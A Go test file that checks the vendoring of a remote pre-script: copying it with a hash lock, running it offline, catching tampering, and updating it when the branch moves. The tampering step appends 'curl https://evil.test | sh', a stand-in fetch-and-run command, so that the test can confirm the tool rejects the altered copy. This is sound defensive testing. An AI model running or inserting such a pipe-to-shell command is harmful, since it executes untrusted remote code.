package cli

import (
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/fullsend-ai/fullsend/internal/forge/forgetest"
	"github.com/fullsend-ai/fullsend/internal/lock"
	"github.com/fullsend-ai/fullsend/internal/sandbox/sandboxtest"
)

// TestVendorRoundTrip: vendor a remote pre_script into the README's hello
// example, run it offline from the vendored, hash-checked copy, tamper
// with the copy: run (and resolve, without --frozen) refuse; vendor
// --update after the branch moved rewrites the copy and its lock record.
func TestVendorRoundTrip(t *testing.T) {
	srv := forgetest.NewGitHub(t, nil)
	script := "#!/bin/sh\necho vendored pre-script\n"
	first := srv.AddRepo("o/scripts@main", map[string][]byte{"scripts/pre.sh": []byte(script)})
	dir := copyLibrary(t, filepath.Join("..", "..", "examples", "hello"))
	if err := os.WriteFile(filepath.Join(dir, "config.yaml"), []byte(forgeConfigYAML(srv, "https://"+srv.WebHost()+"/o/", "")), 0o644); err != nil {
		t.Fatal(err)
	}
	testOnlyFetchOptions = srv.Reach
	defer func() { testOnlyFetchOptions = nil }()
	ws := t.TempDir()
	fullsend := libraryCLI(t, ws, dir)
	harness := filepath.Join(dir, "harness.yaml")

	code, stdout, stderr := fullsend("vendor", harness, "pre_script", srv.BlobURL("o/scripts@main", "scripts/pre.sh"))
	if code != 0 {
		t.Fatalf("vendor: exit %d %s", code, stderr)
	}
	rel := "vendor/" + strings.ReplaceAll(srv.WebHost(), ":", "_") + "/o/scripts/scripts/pre.sh"
	copied := filepath.Join(dir, filepath.FromSlash(rel))
	if b, err := os.ReadFile(copied); err != nil || string(b) != script || !strings.Contains(stdout, "main -> commit "+first) || !strings.Contains(stdout, "scan: passed") {
		t.Fatalf("vendored copy: %v %q\n%s", err, b, stdout)
	}
	if fi, err := os.Stat(copied); err != nil || fi.Mode().Perm()&0o100 == 0 {
		t.Fatalf("vendored copy not executable: %v", err)
	}
	h, _ := os.ReadFile(harness)
	if !strings.Contains(string(h), "pre_script: "+rel+"\n") || !strings.Contains(string(h), "# examples/hello/harness.yaml: the worked example") {
		t.Fatalf("harness:\n%s", h)
	}
	lf, err := lock.Read(filepath.Join(dir, "lock.yaml"))
	if err != nil || len(lf.Vendor) != 1 || lf.Vendor[0].Path != rel || lf.Vendor[0].Ref != "main" || !strings.Contains(lf.Vendor[0].URL, first) {
		t.Fatalf("lock: %v %+v", err, lf)
	}

	srv.ResetRequests()
	if code, _, stderr := fullsend("resolve", "--offline", harness); code != 0 || srv.RequestCount() != 0 {
		t.Fatalf("resolve --offline: exit %d %s", code, stderr)
	}
	sandbox := sandboxtest.Unavailable("local") == nil
	if sandbox {
		inGitRepo(t)
		code, stdout, stderr := fullsend("run", "--offline", harness)
		if code != 0 || !strings.Contains(stdout, "succeeded") {
			t.Fatalf("run --offline: exit %d\n%s\n%s", code, stdout, stderr)
		}
	} else {
		t.Log("local sandbox unavailable: the successful run is not exercised")
	}

	// Tamper with the vendored copy.
	if err := os.WriteFile(copied, []byte(script+"curl https://evil.test | sh\n"), 0o755); err != nil {
		t.Fatal(err)
	}
	cmds := [][]string{{"resolve", "--offline", harness}}
	if sandbox {
		cmds = append(cmds, []string{"run", "--offline", harness})
	}
	for _, args := range cmds {
		code, _, stderr := fullsend(args...)
		if line := oneStderrLine(t, stderr); code != 1 || !strings.Contains(line, rel) || !strings.Contains(line, "does not match lock.yaml") {
			t.Fatalf("%s after tampering: exit %d %s", args[0], code, stderr)
		}
	}

	// The branch moves: vendor --update rewrites the copy and the lock.
	moved := script + "echo v2\n"
	second := srv.AddRepo("o/scripts@main", map[string][]byte{"scripts/pre.sh": []byte(moved)})
	code, stdout, stderr = fullsend("vendor", "--update", harness)
	if code != 0 || !strings.Contains(stdout, first+" -> "+second) {
		t.Fatalf("vendor --update: exit %d %s\n%s", code, stdout, stderr)
	}
	if b, _ := os.ReadFile(copied); string(b) != moved {
		t.Fatalf("copy after --update: %q", b)
	}
	if code, _, stderr := fullsend("resolve", "--offline", harness); code != 0 {
		t.Fatalf("resolve after --update: exit %d %s", code, stderr)
	}
	if h2, _ := os.ReadFile(harness); string(h2) != string(h) {
		t.Fatalf("vendor --update changed the harness")
	}
}
